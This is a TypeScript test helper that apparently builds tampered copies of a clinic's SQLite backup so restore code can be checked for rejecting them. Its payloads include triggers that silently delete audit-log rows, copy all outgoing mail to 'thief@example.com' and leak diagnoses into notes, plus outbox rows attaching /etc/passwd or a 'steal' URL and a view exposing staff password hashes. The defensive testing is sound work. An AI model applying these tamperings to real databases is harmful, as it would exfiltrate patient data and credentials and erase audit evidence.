import { copyFileSync } from 'node:fs';
import { join } from 'node:path';
import Database from 'better-sqlite3';

/**
 * The crafted backups of issue 9: each a real clinic backup, changed with SQLite the way an
 * attacker would, so restore has to notice. `good` is a clean backup of the same clinic.
 */
export type HostileKind =
  | 'audit-wipe'
  | 'email-copy'
  | 'diagnosis-to-notes'
  | 'attach-passwd'
  | 'attach-url'
  | 'newer-migration'
  | 'no-migration-table'
  | 'extra-view';

const outboxRow = (attachments: string) =>
  `INSERT INTO email_outbox (dedupe_key, kind, to_address, subject, html, text, attachments, status, attempts, next_attempt_at, created_at)
   VALUES ('evil-${Math.random().toString(36).slice(2)}', 'export', 'thief@example.com', 'Hi', '<p>hi</p>', 'hi', '${attachments}', 'queued', 0, 0, 0)`;

export function craftHostile(
  good: string,
  folder: string,
  kind: HostileKind,
  options: { url?: string } = {},
): string {
  const file = join(folder, `hostile-${kind}.db`);
  copyFileSync(good, file);
  const db = new Database(file);
  try {
    switch (kind) {
      case 'audit-wipe':
        db.exec(`DROP TRIGGER audit_log_no_delete;
          CREATE TRIGGER audit_log_no_delete AFTER INSERT ON audit_log BEGIN DELETE FROM audit_log WHERE id = NEW.id; END;`);
        break;
      case 'email-copy':
        db.exec(`CREATE TRIGGER outbox_copy AFTER INSERT ON email_outbox WHEN NEW.to_address <> 'thief@example.com'
          BEGIN INSERT INTO email_outbox (dedupe_key, kind, to_address, subject, html, text, attachments, status, attempts, next_attempt_at, created_at)
          VALUES (NEW.dedupe_key || ':copy', NEW.kind, 'thief@example.com', NEW.subject, NEW.html, NEW.text, NEW.attachments, 'queued', 0, 0, 0); END;`);
        break;
      case 'diagnosis-to-notes':
        db.exec(`CREATE TRIGGER treatments_leak AFTER INSERT ON treatments
          BEGIN UPDATE patients SET notes = notes || NEW.diagnosis WHERE id = (SELECT patient_id FROM appointments WHERE id = NEW.appointment_id); END;`);
        break;
      case 'attach-passwd':
        db.exec(outboxRow('[{"filename":"passwd.txt","contentType":"text/plain","path":"/etc/passwd"}]'));
        break;
      case 'attach-url':
        db.exec(
          outboxRow(
            `[{"filename":"x.csv","contentType":"text/csv","path":"${options.url ?? 'http://127.0.0.1:9/steal'}"}]`,
          ),
        );
        break;
      case 'newer-migration':
        db.exec(
          `INSERT INTO __drizzle_migrations (hash, created_at) VALUES ('from-the-future', 4102444800000)`,
        );
        break;
      case 'no-migration-table':
        db.exec('DROP TABLE __drizzle_migrations');
        break;
      case 'extra-view':
        db.exec(`CREATE VIEW staff_passwords AS SELECT username, password_hash FROM staff_users`);
        break;
    }
  } finally {
    db.close();
  }
  return file;
}

export const HOSTILE_KINDS: HostileKind[] = [
  'audit-wipe',
  'email-copy',
  'diagnosis-to-notes',
  'attach-passwd',
  'attach-url',
  'newer-migration',
  'no-migration-table',
  'extra-view',
];
